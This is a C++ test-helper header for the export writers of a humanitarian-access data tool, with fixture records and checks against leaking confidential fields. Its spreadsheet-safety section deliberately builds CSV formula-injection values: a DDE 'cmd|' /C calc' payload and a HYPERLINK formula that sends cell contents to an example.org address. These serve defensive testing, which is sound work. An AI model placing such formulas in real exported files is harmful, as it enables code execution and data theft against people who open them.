// Records and helpers the export tests share (test-only; not part of
// lifeline_export): src/export/export_test.cc, which tests the writers alone,
// and tests/export_roundtrip_test.cc, which reads their output back with the
// readers of src/ingest.
#ifndef LIFELINE_EXPORT_EXPORT_TESTING_H_
#define LIFELINE_EXPORT_EXPORT_TESTING_H_

#include <gtest/gtest.h>

#include <initializer_list>
#include <map>
#include <regex>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <nlohmann/json.hpp>

#include "base/status_testing.h"
#include "export/export.h"
#include "record/canonical.h"
#include "record/schema.h"
#include "tabular/csv.h"

namespace lifeline::exports {

using nlohmann::json;

// Never to be seen in any output.
inline constexpr char kSecret[] = "SECRET-7f3a-witness";

inline json Parse(const char* text) {
  json j = json::parse(text, nullptr, /*allow_exceptions=*/false);
  EXPECT_FALSE(j.is_discarded()) << text;
  return j;
}

// The fixture: records as the log holds them (with `recorded` and `by`), each
// with a confidential object holding kSecret.
inline json Incident1() {
  return Parse(R"({"kind":"incident","id":"inc-1","case":"case-x","sources":["src-a","src-b"],
    "date":"2023-09-19",
    "location":{"name":"Northtown, centre","admin1":"East Province","admin2":"Hill District",
                "country":"AZE","lat":39.81534567890123,"lon":46.7519,"geo_precision":1},
    "event_type":"Explosions/Remote violence","sub_event_type":"Shelling/artillery/missile attack",
    "actors":["Party A","Militia, east"],"fatalities":{"low":2,"best":3,"high":5},"injuries":11,
    "description":"Shelling hit a \"market\", then\nthe hospital road.",
    "note":"two reports","confidential":{"witness":"SECRET-7f3a-witness"},
    "recorded":"2023-09-20T08:15:00Z","by":"editor@example.org"})");
}

inline json Incident2() {  // as ReadAcledCsv makes them: id with "acled-", note = ACLED's source
  return Parse(R"({"kind":"incident","id":"acled-syr123","case":"case-x","sources":["src-acled-x"],
    "date":"2023-10-15","date_precision":"month",
    "location":{"name":"Riverside","admin1":"West","country":"SYR","lat":35,"lon":-36.5},
    "event_type":"Battles","actors":["Party C","Party D","Party E"],"fatalities":{"best":0},
    "description":"Clashes.","note":"Local media; Radio X",
    "confidential":{"contact":"SECRET-7f3a-witness"},
    "recorded":"2023-10-20T00:00:00+02:00","by":"importer"})");
}

inline json Incident3() {  // no coordinates, year precision, no fatalities
  return Parse(R"({"kind":"incident","id":"inc-3","case":"case-x","sources":["src-a"],
    "date":"2022-01-01","date_precision":"year","location":{"name":"Southvale"},
    "event_type":"Strategic developments","access_constraint":3,
    "confidential":{"x":{"deep":["SECRET-7f3a-witness"]}},
    "recorded":"2023-01-02T03:04:05Z","by":"editor@example.org"})");
}

inline json RoadRoute() {
  return Parse(R"({"kind":"route","id":"route-road","case":"case-x","sources":["src-a"],
    "name":"Corridor road","type":"road","from":"Northtown","to":"Border",
    "path":[[39.8,46.75],[39.6,46.6],[39.5123456789012,46.5]],
    "confidential":{"driver":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

inline json CrossingRoute() {
  return Parse(R"({"kind":"route","id":"route-crossing","case":"case-x","sources":["src-a"],
    "name":"North crossing","type":"crossing","path":[[41.25,45.125]],
    "confidential":{"officer":"SECRET-7f3a-witness","lat":41.2500001},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

inline json OnePointRoad() {
  return Parse(R"({"kind":"route","id":"route-stub","case":"case-x","sources":["src-a"],
    "name":"Stub","type":"road","path":[[40,45]],"confidential":{"n":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

inline json PathlessRoute() {
  return Parse(R"({"kind":"route","id":"route-air","case":"case-x","sources":["src-a"],
    "name":"Air bridge","type":"air","confidential":{"n":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

inline json Movement() {
  return Parse(R"({"kind":"movement","id":"mv-1","case":"case-x","sources":["src-a"],
    "route":"route-road","date":"2023-09-30","direction":"in","operator":"ICRC",
    "outcome":"completed","vehicles":12,"persons":3,
    "cargo":[{"commodity":"flour","quantity":20000,"unit":"kg"},
             {"commodity":"fuel","quantity":1.5,"unit":"l","note":"diesel, \"winter\""}],
    "confidential":{"plate":"SECRET-7f3a-witness"},
    "recorded":"2023-10-01T00:00:00Z","by":"editor@example.org"})");
}

inline json RouteStatus() {
  return Parse(R"({"kind":"route_status","id":"rs-1","case":"case-x","sources":["src-a"],
    "route":"route-road","from":"2023-09-19T13:00:00+04:00","status":"restricted",
    "restricted":["cargo","commercial"],"imposed_by":"Party A",
    "confidential":{"who":"SECRET-7f3a-witness"},
    "recorded":"2023-09-20T00:00:00Z","by":"editor@example.org"})");
}

inline json Source() {
  return Parse(R"({"kind":"source","id":"src-a","case":"case-x","publisher":"ICRC",
    "title":"Press release, 19 September","url":"https://example.org/a","publisher_type":"intergovernmental",
    "credibility":2,"confidential":{"phone":"SECRET-7f3a-witness"},
    "recorded":"2023-01-01T00:00:00Z","by":"editor@example.org"})");
}

inline json Obligation() {
  return Parse(R"({"kind":"obligation","id":"ob-1","case":"case-x","sources":["src-a"],
    "instrument":"interim_measure","title":"Order of 22 February","issued":"2023-02-22",
    "issuer":"Court","binding_on":["Party A","Party B"],
    "rule":{"type":"route_open","route":"route-road","for":["persons","vehicles","cargo"],
            "directions":["in","out"],"from":"2023-02-22"},
    "confidential":{"memo":"SECRET-7f3a-witness"},
    "recorded":"2023-02-23T00:00:00Z","by":"editor@example.org"})");
}

inline json Baseline() {
  return Parse(R"({"kind":"baseline","id":"bl-1","case":"case-x","sources":["src-a"],
    "route":"route-road","period":{"from":"2022-01-01","to":"2022-06-30"},
    "per_day":{"vehicles":400,"cargo":[{"commodity":"food","quantity":400,"unit":"t"}]},
    "confidential":{"m":"SECRET-7f3a-witness"},
    "recorded":"2023-02-23T00:00:00Z","by":"editor@example.org"})");
}

inline json CaseRecord() {
  return Parse(R"({"kind":"case","id":"case-x","title":"A case","region":"Region","started":"2022-12-12",
    "population":[{"date":"2022-12-12","count":120000,"sources":["src-a"]}],"public":true,
    "confidential":{"m":"SECRET-7f3a-witness"},
    "recorded":"2022-12-13T00:00:00Z","by":"editor@example.org"})");
}

inline std::vector<json> AllRecords() {
  return {CaseRecord(), Source(),        Incident1(),   Incident2(),    Incident3(),
          RoadRoute(),  CrossingRoute(), OnePointRoad(), PathlessRoute(), Movement(),
          RouteStatus(), Obligation(),   Baseline()};
}

inline std::vector<json> Incidents() { return {Incident1(), Incident2(), Incident3()}; }

inline json WithoutConfidential(json r) {
  r.erase("confidential");
  return r;
}

// --- Every format --------------------------------------------------------

inline void ExpectNoSecret(const std::string& text, const std::string& what) {
  EXPECT_EQ(text.find(kSecret), std::string::npos) << what << " leaks the confidential value";
  EXPECT_EQ(text.find("SECRET"), std::string::npos) << what << " leaks a confidential value";
  EXPECT_EQ(text.find("confidential"), std::string::npos) << what << " names confidential";
  EXPECT_EQ(text.find("witness"), std::string::npos) << what << " leaks a confidential key";
  EXPECT_EQ(text.find("41.2500001"), std::string::npos) << what << " leaks a confidential number";
}

// --- JSON Lines ------------------------------------------------------------

// --- Flat CSV --------------------------------------------------------------

// --- Flat CSV round trip (ReadLifelineCsv) ---------------------------------

// Text that CSV and a naive join would mangle: commas, quotes, line breaks
// (CRLF, CR, LF), surrounding spaces, ';', Armenian and Cyrillic.
inline constexpr char kHardText[] =
    " Ստեփանակերտ, \"Лачинский коридор\"\r\nline two\rthree\nfour; end ";

// One record of every kind with every field of schema v1 set, as the log
// holds them (stamped, with a confidential object). Each is valid
// (FullRecordsAreValid checks it), so the round trip is tested on records
// that can exist.
inline std::vector<json> FullRecords() {
  const json hard = kHardText;
  std::vector<json> records = {
      Parse(R"({"kind":"case","id":"case-x","sources":["src-a","src-b"],"supersedes":"case-old",
        "title":"Lachin corridor, 2022–23","region":"Нагорный Карабах","country":"AZE",
        "started":"2022-12-12","ended":"2023-09-19",
        "population":[{"date":"2022-12-12","count":120000,"sources":["src-a"],"note":"Ombudsman, \"est.\""},
                      {"date":"2023-09-01","count":100000}],
        "displaced":[{"date":"2023-09-30","count":100617,"sources":["src-b"]}],"public":false,
        "case":"case-old","lifeline_routes":["route-road"],"parties":["Party A","Party B, \"east\""],
        "dependency":[{"commodity":"food","share":0.85,"sources":["src-a"],"note":"imports, 2021"},
                      {"commodity":"water"}],"discrepancy_tolerance":0.15,
        "date_window":{"from":"1990-01-01","until":"2030-12-31"},
        "vocabulary":{"utility":{"fuel":"diesel, \"petrol\""},"route_type":{"sea":"a sea corridor"}}})"),
      Parse(R"({"kind":"source","id":"src-a","case":"case-x","sources":["src-b"],"supersedes":"src-old",
        "publisher":"ICRC","title":"Press release, 19 September","url":"https://example.org/a?x=1,2",
        "published":"2023-09-19","language":"hy","publisher_type":"intergovernmental",
        "party":"none; neutral","reliability":"B","credibility":2,
        "archived_sha256":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"})"),
      Parse(R"({"kind":"evidence","id":"ev-1","case":"case-x","sources":["src-a"],"supersedes":"ev-0",
        "sha256":"fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210",
        "media_type":"image/jpeg","size":100003,"captured_at":"2023-01-05T10:30:00+04:00",
        "location":{"name":"Shushi, checkpoint","admin1":"Шуши","admin2":"D2","admin3":"D3",
                    "country":"AZE","lat":39.7583,"lon":46.7512,"geo_precision":2},
        "file_name":"IMG 0001, copy.jpg",
        "custody":[{"at":"2023-01-05T11:00:00Z","by":"Ani Petrosyan","action":"received, \"sealed\""}]})"),
      Parse(R"({"kind":"route","id":"route-road","case":"case-x","sources":["src-a"],"supersedes":"route-0",
        "name":"Lachin corridor","type":"road","from":"Stepanakert","to":"Goris",
        "path":[[39.8,46.75],[39.6,46.6],[39.5123456789012,46.5]]})"),
      Parse(R"({"kind":"route_status","id":"rs-1","case":"case-x","sources":["src-a","src-b"],
        "supersedes":"rs-0","route":"route-road","from":"2023-06-15T13:00:00+04:00",
        "until":"2023-09-19","status":"restricted","restricted":["cargo","commercial"],
        "imposed_by":"Azerbaijan","directions":["out"],"controls":"document checks, \"one by one\""})"),
      Parse(R"({"kind":"baseline","id":"bl-1","case":"case-x","sources":["src-a"],"supersedes":"bl-0",
        "route":"route-road","period":{"from":"2022-01-01","to":"2022-06-30"},
        "per_day":{"vehicles":400,"persons":1250.5,"patients":0.1,
                   "cargo":[{"commodity":"food","quantity":400,"unit":"t"},
                            {"commodity":"fuel","quantity":0.30000000000000004,"unit":"l","note":"diesel"}]},
        "directions":["in","out"]})"),
      Parse(R"({"kind":"movement","id":"mv-1","case":"case-x","sources":["src-a"],"supersedes":"mv-0",
        "route":"route-road","date":"2023-09-30","date_precision":"week","direction":"in",
        "period":{"from":"2023-09-01","to":"2023-09-30"},
        "operator":"ICRC","outcome":"turned_back","vehicles":12,"persons":3,"patients":0,
        "cargo":[{"commodity":"flour","quantity":20000,"unit":"kg"},
                 {"commodity":"fuel","quantity":1.5,"unit":"l","note":"diesel, \"winter\""}],
        "qualifier":"at_least","reported_by":"Party A; ministry","via":["route-air","route-road"]})"),
      Parse(R"({"kind":"incident","id":"inc-1","case":"case-x","sources":["src-a","src-b"],
        "supersedes":"inc-0","date":"2023-09-19","date_precision":"day",
        "location":{"name":"Northtown, centre","admin1":"East Province","admin2":"Hill District",
                    "admin3":"Ward 3","country":"AZE","lat":-39.81534567890123,"lon":46.7519,"geo_precision":1},
        "event_type":"Explosions/Remote violence","sub_event_type":"Shelling/artillery/missile attack",
        "access_constraint":9,"actors":["Party A","Militia, east","[bracketed]"],
        "fatalities":{"low":2,"best":3,"high":5},"injuries":11,"cause":"hostilities",
        "casualties":[{"party":"Party A","category":"civilian","fatalities":{"low":2,"best":2,"high":3},
                       "injuries":11,"reported_by":"Party B","note":"names, \"listed\""},
                      {"party":"Party B","category":"combatant","fatalities":{"low":0,"best":1,"high":2}}]})"),
      Parse(R"({"kind":"outage","id":"out-1","case":"case-x","sources":["src-a"],"supersedes":"out-0",
        "utility":"gas","from":"2023-01-17T00:00:00Z","until":"2023-02-01","area":"Степанакерт",
        "cause":"pipeline, damaged","attributed_to":"Party A","scope":"supply_line",
        "confirmed_until":"2023-01-20T12:00:00+04:00","date_precision":"week"})"),
      Parse(R"({"kind":"schedule","id":"sch-1","case":"case-x","sources":["src-a"],"supersedes":"sch-0",
        "utility":"electricity","from":"2023-01-10","until":"2023-02-01T18:00:00+04:00",
        "hours_off_per_day":6.5,"area":"Степанакерт, \"centre\"","confirmed_until":"2023-01-31",
        "date_precision":"month"})"),
      Parse(R"({"kind":"watch","id":"w-1","case":"case-x","sources":["src-a"],"supersedes":"w-0",
        "route":"route-road","from":"2023-01-01","to":"2023-01-31","directions":["in"],
        "measures":["vehicles","cargo"]})"),
      Parse(R"({"kind":"requirement","id":"rq-1","case":"case-x","sources":["src-a"],"supersedes":"rq-0",
        "measure":"cargo","commodity":"fuel, diesel","quantity":1000000,"unit":"l","per":"week",
        "routes":["route-road"],"from":"2023-01-01","until":"2023-06-30","basis":"OCHA flash appeal, \"p. 4\""})"),
      Parse(R"({"kind":"obligation","id":"ob-1","case":"case-x","sources":["src-a"],"supersedes":"ob-0",
        "instrument":"interim_measure","title":"Order of 22 February","issued":"2023-02-22",
        "issuer":"ICJ","binding_on":["Party A; its forces","Party B"],
        "rule":{"type":"route_open","route":"route-road","for":["persons","vehicles","cargo"],
                "directions":["in","out"],"from":"2023-02-22","until":"2023-12-31"}})"),
      Parse(R"({"kind":"obligation","id":"ob-2","case":"case-x","sources":["src-a"],
        "instrument":"agreement","title":"Gas, and fuel by road","issued":"2023-02-22",
        "rule":{"type":"service_restored","utility":"gas","area":"Stepanakert, \"centre\"","from":"2023-02-22"}})"),
      Parse(R"({"kind":"obligation","id":"ob-3","case":"case-x","sources":["src-a"],
        "instrument":"agreement","title":"Medical supplies","issued":"2023-02-22",
        "rule":{"type":"commodity_allowed","commodity":"medical","routes":["route-road","route-air"],
                "directions":["in"],"from":"2023-02-22"}})"),
      Parse(R"({"kind":"obligation","id":"ob-4","case":"case-x","sources":["src-a"],
        "instrument":"resolution","title":"Flour","issued":"2023-02-22",
        "rule":{"type":"flow_at_least","measure":"cargo","commodity":"wheat flour","unit":"t","quantity":12.5,
                "per":"week","routes":["route-road"],"directions":["in"],"from":"2023-02-22","until":"2023-12-31"}})"),
      Parse(R"({"kind":"obligation","id":"ob-5","case":"case-x","sources":["src-a"],
        "instrument":"resolution","title":"At scale","issued":"2023-02-22",
        "rule":{"type":"not_evaluable","reason":"\"at scale\" names no quantity"}})"),
      Parse(R"({"kind":"need_standard","id":"ns-1","case":"case-x","sources":["src-a"],"supersedes":"ns-0",
        "commodity":"food","quantity":0.575,"unit":"kg","basis":"Sphere, 2,100 kcal",
        "equivalents":[{"commodity":"wheat flour","quantity":1,"unit":"kg","note":"counted as food by weight"}]})"),
      Parse(R"({"kind":"stock","id":"st-1","case":"case-x","sources":["src-a"],"supersedes":"st-0",
        "commodity":"flour","date":"2023-08-01","quantity":1234.5678901234567,"unit":"t","area":"Stepanakert"})"),
      Parse(R"({"kind":"claim","id":"cl-1","case":"case-x","sources":["src-b"],"supersedes":"cl-0",
        "about":"inc-1","stance":"disputes","party":"Azerbaijan","field":"fatalities",
        "value":{"low":0,"best":1,"high":2}})"),
      Parse(R"({"kind":"retraction","id":"rt-1","case":"case-x","sources":["src-b"],"supersedes":"rt-0",
        "retracts":"inc-0"})"),
      Parse(R"({"kind":"tag","id":"tg-1","case":"case-x","sources":["src-b"],"supersedes":"tg-0",
        "targets":["inc-1","rs-1"],"framework":"un-foa-2014","factor":"RF13","indicator":"13.8",
        "author":"Մոնիտոր, \"Monitor\"; Наблюдатель"})"),
  };
  // The hard text in every free-text field the envelope and kinds have.
  const std::map<std::string, std::vector<std::string>> text_fields = {
      {"evidence", {"description"}}, {"route", {"description"}}, {"incident", {"description"}},
      {"obligation", {"text"}},      {"claim", {"text"}},        {"retraction", {"reason"}},
      {"tag", {"text"}}};
  for (json& r : records) {
    r["note"] = hard;
    auto it = text_fields.find(r["kind"]);
    if (it != text_fields.end()) {
      for (const std::string& f : it->second) r[f] = hard;
    }
    r["confidential"] = {{"witness", kSecret}};
    r["recorded"] = "2023-09-20T08:15:00Z";
    r["by"] = "редактор@example.org";
  }
  return records;
}

// The record as the log's canonical entry would parse, minus `drop`.
inline json Entry(json r, std::initializer_list<const char*> drop) {
  for (const char* d : drop) r.erase(d);
  Result<std::string> text = record::Canonicalize(r);
  EXPECT_OK(text);
  return json::parse(*text);
}

// Numbers must come back with their type (an integer count is not 3.0), which
// json's operator== does not compare.
inline void ExpectSameNumberTypes(const json& want, const json& got, const std::string& path) {
  if (want.is_number()) {
    EXPECT_EQ(want.is_number_float(), got.is_number_float()) << path << ": " << want << " vs " << got;
    return;
  }
  if (want.is_object() && got.is_object()) {
    for (auto it = want.begin(); it != want.end(); ++it) {
      if (got.contains(it.key())) ExpectSameNumberTypes(*it, got[it.key()], path + "." + it.key());
    }
  } else if (want.is_array() && got.is_array() && want.size() == got.size()) {
    for (size_t i = 0; i < want.size(); ++i) {
      ExpectSameNumberTypes(want[i], got[i], path + "[" + std::to_string(i) + "]");
    }
  }
}

// --- HXL -------------------------------------------------------------------

// Every field the HXL writer carries set, including the awkward values: a
// repeated actor, zero counts, text with surrounding spaces, quotes, ';' and
// CRLF, coordinates at full double precision.
inline json IncidentEveryField() {
  return Parse(R"({"kind":"incident","id":"inc-full","case":"case-x","sources":["src-a","src-b"],
    "supersedes":"inc-3","note":"corrected; see src-b","date":"2023-09-18","date_precision":"week",
    "location":{"name":"Eastgate","admin1":"East Province","admin2":"Hill District",
                "admin3":"Ward 3","country":"AZE","lat":-12.345678901234567,"lon":179.99999,
                "geo_precision":2},
    "event_type":"Violence against civilians","sub_event_type":"Attack","access_constraint":7,
    "actors":["Party A","Militia, east","Party A"],"fatalities":{"low":0,"best":4,"high":1000000},
    "injuries":0,"description":" Leading space, \"quotes\"; semicolons\r\nand CRLF ",
    "confidential":{"witness":"SECRET-7f3a-witness"},
    "recorded":"2023-09-20T08:15:00Z","by":"editor@example.org"})");
}

inline json MovementEveryField() {
  return Parse(R"({"kind":"movement","id":"mv-2","case":"case-x","sources":["src-a"],
    "supersedes":"mv-1","note":"convoy of the 3rd","route":"route-road","date":"2023-10-01",
    "date_precision":"month","direction":"out","operator":"Red Crescent","outcome":"stopped",
    "period":{"from":"2023-09-01","to":"2023-10-01"},
    "vehicles":0,"persons":40,"patients":2,
    "cargo":[{"commodity":"medicine","quantity":12.25,"unit":"kg"}],
    "confidential":{"plate":"SECRET-7f3a-witness"},
    "recorded":"2023-10-02T00:00:00Z","by":"editor@example.org"})");
}

// What an HXL export cannot bring back: `confidential` is never written, and
// `recorded`/`by` are Lifeline's stamps, which a reader never sets.
inline json AsImported(json r) {
  r.erase("confidential");
  r.erase("recorded");
  r.erase("by");
  return r;
}

// --- ACLED -----------------------------------------------------------------

inline const char kAcledHeader[] =
    "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,"
    "assoc_actor_1,inter1,actor2,assoc_actor_2,inter2,interaction,civilian_targeting,iso,region,"
    "country,admin1,admin2,admin3,location,latitude,longitude,geo_precision,source,source_scale,"
    "notes,fatalities,tags,timestamp\r\n";

// --- GeoJSON ---------------------------------------------------------------

// --- Spreadsheet-safe cells (every CSV-shaped format) ----------------------

// The first characters a spreadsheet may run as a formula (OWASP).
inline const std::vector<std::string> kFormulaStarts = {"=", "+", "-", "@", "\t", "\r"};

inline bool IsWholeNumber(const std::string& cell) {
  static const std::regex number("[+-]?[0-9]+(\\.[0-9]+)?([eE][+-]?[0-9]+)?");
  return std::regex_match(cell, number);
}

// A cell a spreadsheet would take as a formula.
inline bool StartsAFormula(const std::string& cell) {
  return !cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos &&
         !IsWholeNumber(cell);
}

// `r` with `prefix` in front of every string in it (but `kind`), arrays and
// objects included.
inline json Prefixed(const json& value, const std::string& prefix, std::string_view key = "") {
  if (value.is_string()) return key == "kind" ? value : json(prefix + value.get<std::string>());
  json out = value;
  if (value.is_object()) {
    for (auto it = out.begin(); it != out.end(); ++it) *it = Prefixed(*it, prefix, it.key());
  } else if (value.is_array()) {
    for (json& e : out) e = Prefixed(e, prefix);
  }
  return out;
}

// An incident whose text fields all start with `prefix`, with a negative
// longitude (a number, left as it is).
inline json DangerousIncident(const std::string& prefix) {
  json r = IncidentEveryField();
  for (const char* key : {"description", "note", "event_type", "sub_event_type"}) {
    r[key] = prefix + "HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
  }
  for (const char* key : {"name", "admin1", "admin2", "admin3"}) {
    r["location"][key] = prefix + "cmd|' /C calc'!A0";
  }
  r["location"]["lon"] = -45.2;
  r["actors"] = json::array({prefix + "Party A", prefix + "Party B", prefix + "Party C"});
  return r;
}

inline json DangerousMovement(const std::string& prefix) {
  json r = MovementEveryField();
  r["operator"] = prefix + "1+1";
  r["note"] = prefix + "SUM(A1:A9)";
  return r;
}

// Every CSV-shaped file the writers make of these records: the flat CSV of
// each kind, HXL and ACLED.
inline std::vector<std::pair<std::string, std::string>> EveryCsvFile(
    const std::vector<json>& records, const CsvExportOptions& options) {
  std::vector<std::pair<std::string, std::string>> files;
  for (const std::string& kind : record::Kinds()) {
    auto csv = WriteCsv(records, kind, options);
    EXPECT_TRUE(csv.ok()) << kind << ": " << csv.status().ToString();
    files.emplace_back("csv " + kind, csv.ok() ? *csv : "");
  }
  auto hxl = WriteHxlCsv(records, options);
  EXPECT_OK(hxl);
  files.emplace_back("hxl", hxl.ok() ? *hxl : "");
  auto acled = WriteAcledCsv(records, options);
  EXPECT_OK(acled);
  files.emplace_back("acled", acled.ok() ? *acled : "");
  return files;
}

// The cells of a CSV file exactly as a spreadsheet sees them.
inline std::vector<std::string> RawCells(const std::string& file) {
  tabular::CsvTable t = tabular::ParseCsv(file, {.restore_neutralised = false});
  EXPECT_TRUE(t.errors.empty());
  std::vector<std::string> cells;
  for (const tabular::CsvRecord& r : t.records) cells.insert(cells.end(), r.fields.begin(), r.fields.end());
  return cells;
}

// For the flat CSV, every string of every kind; for HXL and ACLED, every text
// field they carry.
inline std::vector<json> DangerousRecords(const std::string& prefix) {
  std::vector<json> records;
  for (const json& r : FullRecords()) records.push_back(Prefixed(r, prefix));
  // Stamps and dates as HXL and ACLED need them to be valid.
  for (json& r : records) {
    r["recorded"] = "2023-09-20T08:15:00Z";
    if (r.contains("date")) r["date"] = "2023-09-18";
    if (r.contains("date_precision")) r["date_precision"] = "week";
    if (r.contains("location")) r["location"]["country"] = "AZE";
  }
  records.push_back(DangerousIncident(prefix));
  records.push_back(DangerousMovement(prefix));
  return records;
}

// Values at the edges of the rule: each formula character, a "'" before a
// letter (a quotation: as it is) and before what the reader would remove
// (escaped), '-' before letters and before digits, a whole number as text.
inline const std::vector<std::string> kTrickyPrefixes = {"=",  "+",   "-",  "@",   "\t", "\r", "'",
                                                  "''", "'=",  "-x", "-1",  "'-", "+-", "'\t"};

}  // namespace lifeline::exports

#endif  // LIFELINE_EXPORT_EXPORT_TESTING_H_
